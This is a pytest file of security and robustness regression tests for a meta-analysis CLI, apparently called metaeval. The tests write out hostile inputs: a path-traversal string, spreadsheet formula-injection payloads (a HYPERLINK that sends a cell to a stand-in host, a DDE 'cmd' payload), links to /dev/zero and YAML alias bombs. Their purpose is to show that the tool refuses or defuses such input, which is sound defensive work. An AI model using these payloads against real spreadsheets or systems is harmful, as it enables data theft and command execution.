"""metaeval holds in a hostile world: one test (or one parametrised case) per way it was seen to fail.

Writes where they must not, hangs and runaway cost, tracebacks instead of messages, and faults that left an
inconsistent result. Each test failed on main at 5390352 and passes now. Commands run in-process (``main``) where
a failure on main would be an exception or a wrong file, and in a subprocess where it would be a hang, a
traceback printed by another process, or a signal; subprocesses get a timeout (and a memory limit where main
read without end), so a regression fails the test instead of stopping the suite. Fits are tiny (1 chain x 50
draws): these tests are about files, limits and messages, not the sampler.
"""

from __future__ import annotations

import contextlib
import json
import math
import os
import re
import resource
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from metaeval.cli import main

REPO = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).parent / "fixtures"
EIGHT = FIXTURES / "eight_schools.csv"
MINI = FIXTURES / "mini"
TINY = ["--chains", "1", "--draws", "50", "--tune", "50", "--allow-failed-gate"]  # 50 draws cannot pass the gate


def run(argv, capsys) -> tuple[int, str, str]:
    """``main`` in-process; any exception escaping it fails the test (that is a traceback for a user)."""
    try:
        rc = main([str(a) for a in argv])
    except SystemExit as exc:  # argparse's own refusals
        rc = exc.code
    captured = capsys.readouterr()
    return rc, captured.out, captured.err


def cli(argv, cwd: Path, *, timeout: float = 120, memory: int | None = None, env: dict | None = None,
        new_session: bool = False) -> subprocess.CompletedProcess:
    """``metaeval`` in a subprocess; a hang beyond ``timeout`` fails the test (the process is killed)."""
    def limits():
        if memory:
            resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    proc = subprocess.Popen([sys.executable, "-m", "metaeval.cli", *map(str, argv)], cwd=cwd, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})}, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, preexec_fn=limits, start_new_session=new_session)
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL) if new_session else proc.kill()
        proc.communicate()
        pytest.fail(f"metaeval {' '.join(map(str, argv))} hung for more than {timeout} s")
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)


def clean(err: str) -> None:
    assert "Traceback" not in err and "Error:" not in err.replace("error:", ""), err


@contextlib.contextmanager
def within(seconds: int):
    """Fail (not hang) when the block runs longer than ``seconds`` (in-process guard, main thread)."""
    def expire(signum, frame):
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


#: Lines a command may print on stderr besides its one error: notes on assumptions and the phase messages.
CHATTER = ("note: ", "sampling: ", "writing ")


def small_csv(path: Path, rows=((0.1, 0.1), (0.3, 0.2), (0.2, 0.15)), domain: str | None = None) -> Path:
    head = "study,yi,sei" + (",domain" if domain else "")
    body = "".join(f"{chr(65 + i)},{y},{s}" + (f",{domain}" if domain else "") + "\n" for i, (y, s) in enumerate(rows))
    path.write_text(head + "\n" + body, encoding="utf-8")
    return path


def tree(folder: Path, skip: Path | None = None) -> set[str]:
    """Every path under ``folder`` (links not followed), leaving out ``skip``."""
    out = set()
    for root, dirs, files in os.walk(folder):
        if skip is not None and Path(root).resolve() == skip.resolve():
            dirs[:] = []
            continue
        out |= {str(Path(root, n).relative_to(folder)) for n in dirs + files}
    return out


def evidence_dir(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    shutil.copytree(MINI, data)
    return data


# --- writes where they must not (security) ---------------------------------------------------------------------


@pytest.mark.subprocess
def test_a_domain_from_the_data_cannot_name_a_file_outside_out(tmp_path):
    """sensitivity wrote spec_curve_<domain>.png with the domain verbatim: ../../../../x left --out."""
    work = tmp_path / "work"
    work.mkdir()
    hostile = "../../../../../escaped"
    csv = small_csv(work / "e.csv", domain=hostile)
    before = tree(tmp_path)
    done = cli(["sensitivity", "--csv", csv, "--out", "out", "--scheduler", "serial", "--no-loo", "--no-power-scaling", "--no-report",
                "--tau", "--bias", "--inclusion", "--estimand", "--direction-only", *TINY, "--format", "json"], work, timeout=300)
    assert done.returncode in (0, 1), done.stderr  # 1: a scenario failed
    clean(done.stderr)
    assert {p for p in tree(tmp_path) - before if not p.startswith("work/out")} == set()  # nothing outside --out
    curves = [p.name for p in (work / "out" / "sensitivity").iterdir() if p.name.startswith("spec_curve_")]
    assert len(curves) == 1 and "/" not in curves[0] and ".." not in curves[0].removeprefix("spec_curve_")[:2]


def test_a_symlink_in_out_cannot_lead_a_fit_into_another_folder(tmp_path, capsys, monkeypatch):
    """OUT/fits -> elsewhere (data/, say) let a fit write its cache there."""
    victim = tmp_path / "victim"
    victim.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "fits").symlink_to(victim)
    import metaeval.sampling

    monkeypatch.setattr(metaeval.sampling, "fit", lambda *a, **k: pytest.fail("refused paths must be refused before a fit"))
    rc, _, err = run(["fit", "--csv", small_csv(tmp_path / "s.csv"), "--out", out, *TINY], capsys)
    assert rc == 2 and "outside the output folder" in err and str(out / "fits") in err
    assert list(victim.iterdir()) == []


def test_the_writer_itself_refuses_a_folder_that_leads_out(tmp_path):
    """Defence in depth: inside confine(), a write through a symlinked folder is refused even if no check ran before."""
    from metaeval.errors import InputError
    from metaeval.files import confine, write_atomic

    victim, out = tmp_path / "victim", tmp_path / "out"
    victim.mkdir()
    out.mkdir()
    (out / "sub").symlink_to(victim)
    with confine(out), pytest.raises(InputError, match="outside the output folder"):
        write_atomic(out / "sub" / "x.txt", "x")
    assert list(victim.iterdir()) == []


def _special(kind: str, path: Path) -> Path:
    if kind == "fifo":
        os.mkfifo(path)
    elif kind in ("char_device", "link_to_device"):
        device = path if kind == "char_device" else path.with_name("null-device")
        try:
            os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a private copy of /dev/null: a regression destroys only it
        except PermissionError:
            pytest.skip("making a device node needs root (CAP_MKNOD); the FIFO case covers the same rule")
        if kind == "link_to_device":
            path.symlink_to(device)
    else:
        path.mkdir()
    return path


@pytest.mark.parametrize("kind", ["char_device", "link_to_device", "fifo", "directory"])
@pytest.mark.parametrize("command", ["report", "plot"])
def test_an_output_file_that_is_a_device_fifo_or_folder_is_refused_before_any_work(kind, command, tmp_path, capsys):
    """--output /dev/null was replaced by a regular file through the atomic rename (as root: the device node destroyed)."""
    target = _special(kind, tmp_path / "target.svg")
    mode = os.lstat(target).st_mode
    if command == "report":
        argv = ["report", "--engine", "exact", "--csv", EIGHT, "--output", target]
    else:
        summary = tmp_path / "summary.json"
        rc, printed, _ = run(["fit", "--engine", "exact", "--csv", EIGHT, "--out", tmp_path / "o", "--format", "json"], capsys)
        assert rc == 0
        summary.write_text(printed)
        argv = ["plot", "forest", "--csv", EIGHT, "--summary", summary, "--domain", "all", "--out", target]
    rc, _, err = run(argv, capsys)
    assert rc == 2, err
    assert os.lstat(target).st_mode == mode  # untouched
    assert any(w in err for w in ("not a regular file", "existing folder", "FIFO", "device")), err


def test_formula_payloads_are_defused_in_columns_that_also_hold_numbers(tmp_path, capsys):
    """Only all-text columns were defused: =HYPERLINK(...) beside numbers was exported raw."""
    import csv
    import io

    payloads = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "=1+1"]
    lines = ["study,yi,sei,dose"]
    for i, p in enumerate(payloads):
        quoted = '"' + p.replace('"', '""') + '"'
        lines.append(f"S{i},0.{i + 1},0.2,{quoted}")
    lines += ["N1,0.2,0.2,1.5", "N2,0.3,0.2,-2"]  # numbers in the same column, negative ones too
    path = tmp_path / "mixed.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rc, out, err = run(["evidence", "--csv", path, "--format", "csv", "--all-columns"], capsys)
    assert rc == 0, err
    table = list(csv.DictReader(io.StringIO(out)))
    doses = [r["mod_dose"] for r in table]
    for p in payloads:
        assert "'" + p in doses, (p, doses)  # defused, kept readable
    live = [c for r in table for c in r.values() if c and c[0] in "=+-@\t\r" and not re.fullmatch(r"[-+]?[0-9.]+(e[-+]?[0-9]+)?", c)]
    assert live == [], live
    assert "1.5" in doses and "-2.0" in doses  # numbers are not touched


# --- hangs and runaway cost (availability) ---------------------------------------------------------------------


@pytest.mark.subprocess
@pytest.mark.parametrize("where", ["domains.yaml", "projects/zz_extra.yaml"])
def test_a_fifo_among_the_evidence_files_is_refused_not_waited_on(where, tmp_path):
    data = evidence_dir(tmp_path)
    (data / where).unlink(missing_ok=True)
    os.mkfifo(data / where)
    done = cli(["validate", "--data", data], tmp_path, timeout=60)
    assert done.returncode == 2, done.stderr
    clean(done.stderr)
    assert f"{data / where}: is a FIFO" in done.stderr


@pytest.mark.subprocess
@pytest.mark.parametrize("which", ["csv", "yaml"])
def test_a_link_to_dev_zero_is_refused_not_read(which, tmp_path):
    """A symlink to /dev/zero read until memory ran out (limited to 2 GB here, so main fails instead of thrashing)."""
    if which == "csv":
        target = tmp_path / "zero.csv"
        target.symlink_to("/dev/zero")
        argv = ["validate", "--csv", target]
    else:
        data = evidence_dir(tmp_path)
        target = data / "projects" / "zz_zero.yaml"
        target.symlink_to("/dev/zero")
        argv = ["validate", "--data", data]
    done = cli(argv, tmp_path, timeout=60, memory=2 * 2**30)
    assert done.returncode == 2, done.stderr
    clean(done.stderr)
    assert "character device" in done.stderr and "only regular files are read" in done.stderr


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def _silent_listener():
    """A TCP server that accepts connections and never says a word (not a Dask scheduler)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    accepted, stop = [], threading.Event()

    def serve():
        server.settimeout(0.2)
        while not stop.is_set():
            with contextlib.suppress(OSError):
                accepted.append(server.accept()[0])

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
    finally:
        stop.set()
        thread.join()
        for c in accepted:
            c.close()
        server.close()


@pytest.mark.subprocess
@pytest.mark.parametrize("case", ["malformed", "closed_port", "not_dask"])
def test_a_bad_scheduler_address_ends_fast_with_a_message(case, tmp_path):
    """A listener that is not Dask hung for minutes; a closed port or a malformed address gave a traceback."""
    with contextlib.ExitStack() as stack:
        address = {"malformed": "tcp://localhost:notaport", "closed_port": f"tcp://127.0.0.1:{_free_port()}"}.get(case) \
            or stack.enter_context(_silent_listener())
        done = cli(["sensitivity", "--csv", EIGHT, "--out", tmp_path / "out", "--scheduler", address, "--no-loo", "--no-power-scaling",
                    *TINY], tmp_path, timeout=90)
    assert done.returncode == 2, done.stderr
    clean(done.stderr)
    assert "field --scheduler" in done.stderr and address in done.stderr


@pytest.mark.subprocess
def test_a_cluster_left_without_workers_ends_with_a_message_naming_what_finished(tmp_path):
    """The last worker died and never came back: the run hung forever, without a word."""
    from metaeval.errors import ClusterFailed
    from metaeval.executor import run_tasks

    env = {**os.environ, "PYTHONPATH": str(REPO)}
    scheduler_file = tmp_path / "scheduler.json"
    scheduler = subprocess.Popen([sys.executable, "-m", "distributed.cli.dask_scheduler", "--host", "127.0.0.1", "--port", "0",
                                  "--no-dashboard", "--scheduler-file", str(scheduler_file)], env=env, start_new_session=True,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    worker = None
    try:
        deadline = time.monotonic() + 60
        while not scheduler_file.exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        address = json.loads(scheduler_file.read_text())["address"]
        worker = subprocess.Popen([sys.executable, "-m", "distributed.cli.dask_worker", address, "--nworkers", "1", "--nthreads", "1",
                                   "--no-dashboard"], env=env, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

        def first_done(result):  # the first task is back: take the only worker (and its nanny) away for good
            if result.ok:
                os.killpg(worker.pid, signal.SIGKILL)

        naps = [{"args": ["sleep", seconds]} for seconds in ("0.1", "120", "120")]  # a task function every worker can import
        with within(240), pytest.raises(ClusterFailed) as failed:
            run_tasks(subprocess.call, naps, scheduler=address, progress=first_done, label=lambda t: f"sleep {t['args'][1]}",
                      no_workers_timeout=5)
        message = str(failed.value)
        assert "no workers for 5 s" in message and "1 of 3 task(s) finished (sleep 0.1)" in message and "2 did not run" in message
    finally:
        for proc in (worker, scheduler):
            if proc is not None and proc.poll() is None:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()


def test_cluster_failure_is_one_line_and_exit_1(tmp_path, capsys, monkeypatch):
    from metaeval import sensitivity
    from metaeval.errors import ClusterFailed

    def lost(**kwargs):
        raise ClusterFailed("the Dask cluster at tcp://x:1 has had no workers for 120 s; 3 of 9 task(s) finished (baseline, a, b)")

    monkeypatch.setattr(sensitivity, "run_sensitivity", lost)
    rc, _, err = run(["sensitivity", "--csv", EIGHT, "--out", tmp_path / "o", "--scheduler", "serial", *TINY], capsys)
    assert rc == 1 and err.count("\n") == 1 and "3 of 9 task(s) finished (baseline, a, b)" in err


def test_a_header_of_100000_columns_is_refused_at_once(tmp_path, capsys):
    """The duplicate-column check was quadratic: 100,000 columns (0.9 MB) took 219 s."""
    path = tmp_path / "wide.csv"
    path.write_text("study,yi,sei," + ",".join(f"c{i}" for i in range(100_000)) + "\nA,0.1,0.2" + ",1" * 100_000 + "\n")
    with within(60):
        rc, _, err = run(["validate", "--csv", path], capsys)
    assert rc == 2 and "MAX_CSV_COLUMNS" in err and "100,003 columns" in err


def test_duplicate_columns_are_found_in_linear_time():
    """The check itself, at the column limit: a list.count per column was 999^2 comparisons; a Counter is one pass."""
    from metaeval.errors import InputError
    from metaeval.evidence import MAX_CSV_COLUMNS
    from metaeval.evidence_csv import _parse_csv

    header = ["study", "yi", "sei", *[f"c{i}" for i in range(MAX_CSV_COLUMNS - 5)], "c7", "c9"]
    with pytest.raises(InputError, match="c7, c9: column name appears twice"):
        _parse_csv(Path("x.csv"), [header])


def _project(text_after_id: str) -> str:
    demo = (MINI / "projects" / "demo.yaml").read_text(encoding="utf-8")
    return demo.replace("id: demo\n", "id: demo\n" + text_after_id, 1)


def test_one_anchor_aliased_999_times_is_refused(tmp_path, capsys):
    """Inside the alias-count limit, 999 aliases of one large node turned 0.34 MB of YAML into a 106 MB report."""
    data = evidence_dir(tmp_path)
    big = "x" * 340
    anchor = "filler: &big\n" + "".join(f"  k{i}: {big}\n" for i in range(3)) + "copies:\n" + "".join("  - *big\n" for _ in range(999))
    (data / "projects" / "demo.yaml").write_text(_project(anchor), encoding="utf-8")
    rc, _, err = run(["validate", "--data", data], capsys)
    assert rc == 2 and "MAX_ALIAS_EXPANSION" in err and "demo.yaml: record line" in err


def test_ten_thousand_levels_of_nesting_is_refused(tmp_path, capsys):
    """10,000 levels of nesting: RecursionError traceback."""
    data = evidence_dir(tmp_path)
    (data / "projects" / "demo.yaml").write_text(_project("deep: " + "[" * 10_000 + "]" * 10_000 + "\n"), encoding="utf-8")
    rc, _, err = run(["validate", "--data", data], capsys)
    assert rc == 2 and "MAX_YAML_DEPTH" in err


def test_an_evidence_file_beyond_the_size_limit_is_refused_unread(tmp_path, capsys):
    """A 100 MB evidence file took half an hour (the pure-Python loader); beyond MAX_TEXT_BYTES it is not parsed at all."""
    from metaeval.evidence import MAX_TEXT_BYTES

    data = evidence_dir(tmp_path)
    filler = "# " + "y" * 1000 + "\n"
    (data / "projects" / "demo.yaml").write_text(_project("") + filler * (MAX_TEXT_BYTES // len(filler) + 1), encoding="utf-8")
    with within(60):
        rc, _, err = run(["validate", "--data", data], capsys)
    assert rc == 2 and f"at most {MAX_TEXT_BYTES:,} bytes are read" in err


def test_yaml_is_read_with_the_c_loader_and_its_rules():
    """The C safe loader where the library has it; the alias, depth and duplicate-key rules hold for it too."""
    import yaml

    from metaeval import evidence

    assert yaml.__with_libyaml__ and issubclass(evidence._StrictLoader, yaml.CSafeLoader)
    assert yaml.load("a: &x [1, 2]\nb: *x\n", Loader=evidence._StrictLoader) == {"a": [1, 2], "b": [1, 2]}
    with pytest.raises(yaml.YAMLError, match="appears twice"):
        yaml.load("a: 1\na: 2\n", Loader=evidence._StrictLoader)


# --- tracebacks instead of messages ------------------------------------------------------------------------------


@pytest.mark.parametrize("sei, prior, fragment", [
    (1e-300, None, "more than 1e+12 times the median SE"),
    (1e300, "tau=halfnormal(1)", "halfnormal(1): sigma is 1: more than 1e+12 times smaller than the median SE"),
    (0.1, "tau=halfnormal(1e300)", "halfnormal(1e+300): sigma is 1e+300"),
    (0.1, "tau=halfnormal(1e-320)", "sigma is 9.99989e-321"),
    (0.1, "mu=normal(0,1e-300)", "normal(0, 1e-300): sigma is 1e-300"),
    (0.1, "tau=lognormal(0,1e300)", "lognormal(0, 1e+300): sigma is 1e+300"),
])
def test_the_exact_engine_names_a_number_it_cannot_use(sei, prior, fragment, tmp_path, capsys):
    """SEs of 1e-300/1e300, priors halfnormal(1e300)/(1e-320): ValueError, OverflowError, or a two-minute hang."""
    csv = small_csv(tmp_path / "e.csv", rows=((0.1, sei), (0.3, 2 * sei), (-0.2, 1.5 * sei)))
    with within(60):
        rc, _, err = run(["fit", "--engine", "exact", "--csv", csv, "--out", tmp_path / "o", *(["--prior", prior] if prior else [])], capsys)
    assert rc == 2 and fragment in err and "field --engine exact" in err and "domain 'all'" in err, err


@pytest.mark.parametrize("sei", [1e-300, 1e300])
@pytest.mark.parametrize("command", [["classic"], ["fit", *TINY]])
def test_the_unscaled_engines_name_an_se_they_cannot_use(sei, command, tmp_path, capsys, monkeypatch):
    """MCMC: ZeroDivisionError / OverflowError while the model was built; classic: null estimates and exit 0."""
    import metaeval.sampling

    monkeypatch.setattr(metaeval.sampling, "fit", lambda *a, **k: pytest.fail("refused numbers must be refused before a fit"))
    csv = small_csv(tmp_path / "e.csv", rows=((0.1, sei), (0.3, 2 * sei), (-0.2, 1.5 * sei)))
    rc, _, err = run([*command, "--csv", csv, *(["--out", tmp_path / "o"] if command[0] == "fit" else [])], capsys)
    assert rc == 2 and "e.csv: record row 2 (study 'A'), field " in err and ("1e±150" in err or "more than 1e+12" in err), err


def _reference(y, s, tau_prior: str, mu_prior: str | None = None) -> tuple[float, float, float]:
    """E[mu], E[tau] and P(mu > 0) by adaptive quadrature over log tau, mu integrated in closed form: an
    implementation independent of the engine's grid (the textbook marginal likelihood of the normal-normal model)."""
    from scipy import integrate, special

    from metaeval.priors import parse_prior

    y, s = np.asarray(y, float), np.asarray(s, float)
    tp = parse_prior(tau_prior)
    m0, p0 = (0.0, 0.0) if mu_prior is None else (parse_prior(mu_prior).params[0], parse_prior(mu_prior).params[1] ** -2)

    def parts(u):
        tau = math.exp(u)
        w = 1 / (tau * tau + s * s)
        precision = w.sum() + p0
        mean = (w @ y + p0 * m0) / precision
        quad = (w * (y - mean) ** 2).sum() + p0 * (mean - m0) ** 2
        log_density = -0.5 * (-np.log(w).sum() + math.log(precision) + quad) + float(tp.logpdf(np.array([tau]))[0]) + u
        return log_density, mean, 1 / precision, tau

    grid = np.linspace(math.log(min(s.min(), 1e-3)) - 40, math.log(max(s.max(), np.ptp(y), 1.0)) + 40, 8001)
    logs = np.array([parts(u)[0] for u in grid])
    top = logs.max()
    a, b = grid[logs > top - 60].min() - 1, grid[logs > top - 60].max() + 1

    def mean_of(g):
        return integrate.quad(lambda u: (lambda r: math.exp(r[0] - top) * g(r))(parts(u)), a, b, limit=2000,
                              epsabs=0, epsrel=1e-11, points=list(np.linspace(a, b, 60)[1:-1]))[0]

    z = mean_of(lambda r: 1.0)
    return mean_of(lambda r: r[1]) / z, mean_of(lambda r: r[3]) / z, mean_of(lambda r: special.ndtr(r[1] / math.sqrt(r[2]))) / z


Y, S = [0.1, 0.3, -0.2, 0.05], [0.1, 0.2, 0.15, 0.12]


@pytest.mark.parametrize("y, s, tau_prior, mu_prior", [
    (Y, S, "halfnormal(1)", None),
    (Y, S, "halfnormal(1e11)", None),  # the ends of the accepted range of prior scales
    (Y, S, "halfnormal(1.5e-13)", None),
    (Y, S, "exponential(1e-11)", None),
    (Y, S, "lognormal(25, 1)", None),
    (Y, S, "lognormal(-25, 1)", None),
    (Y, S, "halfnormal(1)", "normal(0, 1e11)"),
    ([0.1, 3e5, -2e5, 1e-3], [1.3e-7, 1.1, 1.3e5, 0.9], "halfnormal(1)", None),  # SEs 1e12 apart
])
@pytest.mark.parametrize("factor", [1.0, 1e-300, 1e290])
def test_the_exact_engine_is_right_at_the_edges_of_its_range(y, s, tau_prior, mu_prior, factor):
    """Inside its range the engine matches independent quadrature, at the data's own scale and with everything
    multiplied by 1e-300 or 1e290 (the answer then scales with it)."""
    from metaeval.exact import exact_posterior
    from metaeval.priors import parse_prior

    post = exact_posterior(np.asarray(y) * factor, np.asarray(s) * factor, tau_prior=parse_prior(tau_prior).scaled(factor),
                           mu_prior=parse_prior(mu_prior).scaled(factor) if mu_prior else None).summary()
    mu, tau, p = _reference(y, s, tau_prior, mu_prior)
    assert post["mu"]["mean"] == pytest.approx(mu * factor, rel=1e-7, abs=1e-9 * post["mu"]["sd"])
    assert post["tau"]["mean"] == pytest.approx(tau * factor, rel=1e-7)
    assert post["mu"]["p_beneficial"] == pytest.approx(p, abs=1e-9)
    for entry in (post["mu"], post["tau"], post["theta_new"]):
        assert all(math.isfinite(entry[k]) for k in ("mean", "sd", "hdi_low", "hdi_high"))


@pytest.mark.parametrize("case, text", [
    ("list_key", "? [a, b]\n: 1\n"),
    ("mapping_key", "? {a: 1}\n: 1\n"),
    ("set_value", "tags: !!set {a, b}\n"),
    ("integer_5000_digits", "n_big: " + "9" * 5000 + "\n"),
    ("impossible_date", "when: 2024-02-30\n"),
])
def test_yaml_keys_and_values_python_cannot_hold_are_messages(case, text, tmp_path, capsys):
    """Keys that are lists or mappings, integers of 5,000 digits, unhashable values: TypeError / ValueError tracebacks."""
    data = evidence_dir(tmp_path)
    (data / "projects" / "demo.yaml").write_text(_project(text), encoding="utf-8")
    rc, _, err = run(["validate", "--data", data], capsys)
    assert rc == 2 and "demo.yaml" in err, err


def test_a_toml_integer_of_5000_digits_is_a_message(tmp_path, capsys):
    model = tmp_path / "m.toml"
    model.write_text((REPO / "models" / "default.toml").read_text(encoding="utf-8") + "\nhuge = " + "9" * 5000 + "\n")
    rc, _, err = run(["fit", "--engine", "exact", "--csv", EIGHT, "--model", model, "--out", tmp_path / "o"], capsys)
    assert rc == 2 and "m.toml" in err and "not valid TOML" in err


@pytest.mark.parametrize("where", [("domains",), ("domains", "all"), ("domains", "all", "mu"), ("domains", "all", "projects"),
                                   ("domains", "all", "projects", 0), ("diagnostics",), ("model",), ("domains", "all", "notes")])
@pytest.mark.parametrize("command", ["plot", "report"])
def test_a_summary_with_a_number_where_a_table_belongs_is_a_message(where, command, tmp_path, capsys):
    """A summary.json edited to hold a number where a table was: AttributeError in plot and report."""
    csv = small_csv(tmp_path / "s.csv")
    rc, printed, _ = run(["fit", "--engine", "exact", "--csv", csv, "--out", tmp_path / "o", "--format", "json"], capsys)
    assert rc == 0
    summary = json.loads(printed)
    node = summary
    for key in where[:-1]:
        node = node[key]
    node[where[-1]] = 7
    path = tmp_path / "edited.json"
    path.write_text(json.dumps(summary))
    if command == "plot":
        argv = ["plot", "forest", "--csv", csv, "--summary", path, "--domain", "all", "--out", tmp_path / "f.svg"]
    else:
        argv = ["report", "--csv", csv, "--summary", path, "--output", tmp_path / "r.html"]
    rc, _, err = run(argv, capsys)
    assert rc == 2, err
    assert f"{path}:" in err and ".".join(map(str, where[1:])) in err or where == ("domains",)


@pytest.mark.subprocess
def test_an_immutable_output_folder_is_refused_before_the_fit(tmp_path, capsys, monkeypatch):
    """A read-only or immutable output folder: OSError traceback, and only after the whole fit had run."""
    import metaeval.sampling

    out = tmp_path / "out"
    out.mkdir()
    if subprocess.run(["chattr", "+i", str(out)], capture_output=True).returncode != 0:
        pytest.skip("chattr +i is not available here (needs CAP_LINUX_IMMUTABLE)")
    try:
        monkeypatch.setattr(metaeval.sampling, "fit", lambda *a, **k: pytest.fail("the fit ran although its result could not be saved"))
        rc, _, err = run(["fit", "--csv", small_csv(tmp_path / "s.csv"), "--out", out, *TINY], capsys)
        assert rc == 2 and "cannot be written (Operation not permitted" in err and "nothing was run" in err, err
        rc, _, err = run(["run", "--engine", "exact", "--csv", tmp_path / "s.csv", "--out", out / "sub"], capsys)
        assert rc == 2 and "cannot be written" in err
    finally:
        subprocess.run(["chattr", "-i", str(out)], check=True)


@pytest.mark.subprocess
def test_sigint_during_sensitivity_is_one_line_and_130(tmp_path):
    """SIGINT during sensitivity printed a KeyboardInterrupt traceback (and its workers' tracebacks).

    The fits are long (200,000 draws each), so that every signal finds the run going: with 2,000 draws and a warm
    compile cache the whole grid finished in under 6 s, and the last signal came after its end (exit 1, a failed scenario)."""
    for delay in (1.0, 3.0, 6.0):
        proc = subprocess.Popen([sys.executable, "-m", "metaeval.cli", "sensitivity", "--csv", str(EIGHT), "--out", str(tmp_path / "out"),
                                 "--workers", "2", "--no-loo", "--no-power-scaling", "--chains", "1", "--draws", "200000", "--tune", "500"],
                                cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(REPO)}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                text=True, start_new_session=True)
        _wait_for_handlers(proc.pid)
        time.sleep(delay)
        os.killpg(proc.pid, signal.SIGINT)  # as a terminal does: to the whole process group, workers included
        try:
            _, err = proc.communicate(timeout=120)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            pytest.fail("still running 120 s after Ctrl-C")
        assert proc.returncode == 130, err
        lines = [line for line in err.strip().splitlines() if not line.startswith(CHATTER)]  # notes and phases
        assert len(lines) == 1 and lines[0].startswith("error: interrupted (Ctrl-C)") and "Traceback" not in err, err


# --- faults that left an inconsistent result -----------------------------------------------------------------------


def _set(out: Path) -> dict[str, bytes]:
    return {name: (out / name).read_bytes() for name in ("summary.json", "summary.csv", "report.html", "latest.txt") if (out / name).exists()}


def test_a_full_disk_while_writing_the_report_leaves_the_previous_set(tmp_path, capsys, monkeypatch):
    """summary.json, summary.csv and latest.txt were already the new fit's, the report the old one's."""
    import errno

    import metaeval.report

    out = tmp_path / "out"
    assert run(["run", "--engine", "exact", "--csv", small_csv(tmp_path / "a.csv"), "--out", out, "--seed", "1"], capsys)[0] == 0
    before = _set(out)
    assert set(before) == {"summary.json", "summary.csv", "report.html"}
    real = metaeval.report.write_report

    def disk_full(path, *args, **kwargs):
        real(path, *args, **kwargs)
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(metaeval.report, "write_report", disk_full)
    rc, _, err = run(["run", "--engine", "exact", "--csv", small_csv(tmp_path / "b.csv", rows=((1, 1), (2, 1))), "--out", out, "--seed", "2"], capsys)
    assert rc == 1 and "No space left on device" in err and "earlier results are as they were" in err and "Traceback" not in err
    assert _set(out) == before


@pytest.mark.subprocess
def test_two_concurrent_runs_into_one_folder_leave_one_fits_set(tmp_path):
    """Two runs with different seeds, at once: summary.json from one fit and summary.csv from the other (1 in 3)."""
    from metaeval.present import summary_csv
    from metaeval.result import Result

    csv = small_csv(tmp_path / "s.csv")
    out = tmp_path / "out"
    for _ in range(2):
        procs = [subprocess.Popen([sys.executable, "-m", "metaeval.cli", "fit", "--csv", str(csv), "--out", str(out), *TINY,
                                   "--seed", str(seed), "--format", "json"], cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(REPO)},
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for seed in (1, 2)]
        for proc in procs:
            _, err = proc.communicate(timeout=300)
            assert proc.returncode == 0, err
        summary = json.loads((out / "summary.json").read_text())
        assert (out / "summary.csv").read_text() == summary_csv(Result.from_json((out / "summary.json").read_bytes()))  # one fit's set
        key = (out / "latest.txt").read_text().strip()
        fitted = json.loads((out / "fits" / key / "summary.json").read_text())  # the engine's result; the published one is judged too
        assert fitted["seed"] == summary["seed"] and fitted["domains"]["all"]["mu"] == summary["domains"]["all"]["mu"]


@pytest.mark.mcmc
def test_a_directory_where_posterior_nc_belongs_is_set_aside_and_refitted(tmp_path, capsys):
    """It made every later run fail the same way, for ever."""
    csv = small_csv(tmp_path / "s.csv")
    out = tmp_path / "out"
    args = ["fit", "--csv", csv, "--out", out, *TINY, "--format", "json"]
    rc, first, err = run(args, capsys)
    assert rc == 0, err
    entry = out / "fits" / (out / "latest.txt").read_text().strip()
    version = entry.resolve()
    (version / "posterior.nc").unlink()
    (version / "posterior.nc").mkdir()
    (version / "posterior.nc" / "junk").write_text("x")
    for _ in range(2):
        rc, again, err = run(args, capsys)
        assert rc == 0 and "cannot be trusted" in err or rc == 0, err
        assert json.loads(again) == json.loads(first)
        assert (entry / "posterior.nc").is_file()


@pytest.mark.mcmc
def test_a_real_directory_at_a_fit_entry_is_moved_aside_not_deleted(tmp_path, capsys):
    """A fit folder of an older layout, damaged: kept out of the way (for the user to look at), and fitted again."""
    csv = small_csv(tmp_path / "s.csv")
    out = tmp_path / "out"
    args = ["fit", "--csv", csv, "--out", out, *TINY, "--format", "json"]
    assert run(args, capsys)[0] == 0
    key = (out / "latest.txt").read_text().strip()
    entry = out / "fits" / key
    shutil.rmtree(entry.resolve())
    entry.unlink()
    entry.mkdir()
    (entry / "posterior.nc").mkdir()
    rc, _, err = run(args, capsys)
    assert rc == 0 and "moved aside" in err, err
    assert entry.is_symlink() and (entry / "posterior.nc").is_file()
    assert [p for p in (out / "fits").iterdir() if p.name.startswith(f".aside-{key}")]


@pytest.mark.subprocess
def test_refit_killed_before_the_new_fit_is_whole_leaves_the_good_fit_loadable(tmp_path):
    """`run --refit` unlinked fit.json before the new posterior was in place: a kill there left an unloadable fit."""
